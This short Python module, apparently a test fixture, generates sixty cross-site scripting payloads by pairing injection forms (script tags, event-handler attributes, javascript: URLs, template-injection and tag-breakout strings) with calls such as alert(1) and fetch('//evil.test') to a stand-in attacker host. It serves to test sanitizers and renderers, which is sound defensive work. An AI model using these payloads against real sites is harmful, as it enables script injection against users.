"""Sixty texts that are scripts to whoever takes them for markup (row W6)."""

from itertools import product

CALLS = ("alert(1)", "window.struck=1", "confirm`1`", "parent.struck=1", "fetch('//evil.test')")
FORMS = (
    "<script>{}</script>", "<img src=x onerror={}>", "</script><script>{}</script>", "\"><b onmouseover={}>x",
    "javascript:{}", "{{{{title}}}}{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "<iframe srcdoc='<script>{}'>",
    "<a href=javascript:{}>x</a>", "</title><svg onload={}>", "<details open ontoggle={}>", "<!--><img src onerror={}>",
)  # fmt: skip
PAYLOADS = sorted({form.format(call) for form, call in product(FORMS, CALLS)})
assert len(PAYLOADS) == 60
